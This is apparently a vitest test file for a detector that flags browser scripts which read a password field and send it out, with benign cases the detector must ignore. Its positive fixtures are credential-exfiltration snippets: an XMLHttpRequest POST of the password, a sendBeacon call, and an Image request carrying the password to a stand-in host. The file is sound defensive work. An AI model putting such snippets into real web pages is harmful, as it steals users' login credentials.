import { describe, expect, it } from 'vitest';
import { browserSends } from './browser-script.ts';

const sends = (text: string, encoding: BufferEncoding = 'latin1'): string[] => browserSends(Buffer.from(text, encoding));

describe('browserSends', () => {
  it('tells a script that reads the password and asks for an address', () => {
    const script =
      'function clkLgn(){var o=new XMLHttpRequest();o.open("POST","/owa/auth/x.js");o.send(gbid("password").value);}';
    expect(sends(`<html><script type="text/javascript">${script}</script></html>`)).toEqual(['XMLHttpRequest']);
    expect(sends(`<SCRIPT>${script.toUpperCase()}</SCRIPT>`, 'utf16le')).toEqual(['XMLHttpRequest']);
    expect(sends('<script>new Image().src="//x.test/?"+pwd.value;navigator.sendBeacon("/y",pwd.value)')).toEqual([
      'sendBeacon',
      'Image',
    ]);
  });

  it.each([
    ['the form alone', '<form action="/owa/auth.owa"><input name="password" type="password"></form>'],
    [
      'a captcha',
      '<input id="passwordText"><script>var q=new XMLHttpRequest();q.open("GET","/owa/auth/recaptcha.aspx?"+token);</script>',
    ],
    [
      'the switch that shows the password',
      '<script>text.value=document.getElementById("password").value;</script><script>fetch("/x")</script>',
    ],
    ['nothing', ''],
    ['scripts that never end', '<script '.repeat(1000)],
  ])('is quiet about %s', (_name, text) => {
    expect(sends(text)).toEqual([]);
  });
});
